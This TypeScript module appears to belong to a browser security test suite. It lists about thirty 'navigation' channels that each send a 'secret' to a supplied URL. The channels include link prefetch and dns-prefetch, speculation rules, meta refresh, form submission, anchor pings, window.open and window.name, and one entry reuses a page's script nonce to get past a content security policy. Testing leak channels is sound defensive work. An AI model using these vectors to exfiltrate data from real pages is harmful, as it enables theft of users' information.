// Navigations, windows, and hints about them, of which some only resolve a name.
import { element, text } from "./parts.js";
import type { Channel } from "./sink.js";

const link = (rel: string, more: Record<string, string> = {}) =>
  element("link", ({ url }) => ({ rel, href: `${url}/secret`, ...more }));

export const NAVIGATION: Channel[] = [
  { name: "link-stylesheet", ...link("stylesheet") },
  { name: "link-prefetch", ...link("prefetch") },
  { name: "link-preload", ...link("preload", { as: "image" }) },
  { name: "link-modulepreload", ...link("modulepreload") },
  { name: "link-icon", ...link("icon") },
  { name: "link-manifest", ...link("manifest") },
  { name: "link-prerender", ...link("prerender") },
  { name: "link-preconnect", ...link("preconnect") },
  { name: "link-dns-prefetch", ...link("dns-prefetch") },
  {
    name: "link-content",
    content: ({ url }) =>
      `<link rel="preconnect" href="${url}"><link rel="dns-prefetch" href="${url}">`,
  },
  {
    name: "link-inner-html",
    script: ({ url }) => `
      document.body.innerHTML = ${text(`<LINK/rel="preconnect" href="${url}"><link rel=dns-prefetch href="${url}">`)};`,
  },
  {
    name: "link-changed",
    script: ({ url }) => `
      const made = document.querySelector("link") ?? document.head.appendChild(document.createElement("link"));
      made.href = ${text(url)};
      made.relList.add("preconnect", "dns-prefetch");`,
  },
  {
    name: "anchor-dns-prefetch",
    content: ({ url }) =>
      `<meta http-equiv="x-dns-prefetch-control" content="on"><a href="${url}/secret">x</a>`,
  },
  {
    name: "speculation-rules",
    script: ({ url }) => `
      const rules = { prefetch: [{ urls: [${text(`${url}/secret`)}], eagerness: "immediate" }],
        prerender: [{ urls: [${text(`${url}/other`)}], eagerness: "immediate" }] };
      const made = document.createElement("script");
      made.type = "speculationrules";
      made.nonce = document.querySelector("script[nonce]")?.nonce ?? "";
      made.textContent = JSON.stringify(rules);
      document.head.append(made);`,
  },
  {
    name: "speculation-rules-content",
    content: ({ url }) =>
      `<script type="speculationrules">{"prefetch":[{"urls":["${url}/secret"],"eagerness":"immediate"}]}</script>`,
  },
  {
    name: "location",
    script: ({ url }) => `location.href = ${text(`${url}/secret`)};`,
  },
  {
    name: "window-name",
    script: ({ url }) =>
      `window.name = "secret"; location.replace(${text(url)});`,
  },
  {
    name: "refresh",
    content: ({ url }) =>
      `<meta http-equiv="refresh" content="0; url=${url}/secret">`,
  },
  {
    name: "refresh-script",
    ...element("meta", ({ url }) => ({
      "http-equiv": "refresh",
      content: `0; url=${url}/secret`,
    })),
  },
  {
    name: "form-get",
    script: ({ url }) => `
      const form = document.createElement("form");
      form.action = ${text(`${url}/secret`)};
      document.body.append(form);
      form.submit();`,
  },
  {
    name: "form-post",
    content: ({ url }) =>
      `<form method="post" action="${url}/secret"><input name="a" value="secret"></form>`,
    script: () => `document.querySelector("form").requestSubmit();`,
  },
  {
    name: "form-blank",
    content: ({ url }) =>
      `<form target="_blank" action="${url}/secret"></form>`,
    script: () => `document.querySelector("form").submit();`,
  },
  {
    name: "anchor",
    ...element("a", ({ url }) => ({ href: `${url}/secret` }), "made.click();"),
  },
  {
    name: "anchor-ping",
    ...element(
      "a",
      ({ url }) => ({ href: "#x", ping: `${url}/secret` }),
      "made.click();",
    ),
  },
  {
    name: "anchor-blank",
    ...element(
      "a",
      ({ url }) => ({ href: `${url}/secret`, target: "_blank" }),
      "made.click();",
    ),
  },
  {
    name: "anchor-top",
    ...element(
      "a",
      ({ url }) => ({ href: `${url}/secret`, target: "_top" }),
      "made.click();",
    ),
  },
  {
    name: "anchor-download",
    ...element(
      "a",
      ({ url }) => ({ href: `${url}/secret`, download: "x" }),
      "made.click();",
    ),
  },
  {
    name: "window-open",
    script: ({ url }) => `open(${text(`${url}/secret`)})`,
  },
  {
    name: "window-open-parent",
    script: ({ url }) => `open(${text(`${url}/secret`)}, "_parent")`,
  },
  {
    name: "parent-location",
    script: ({ url }) => `parent.location = ${text(`${url}/secret`)};`,
  },
];
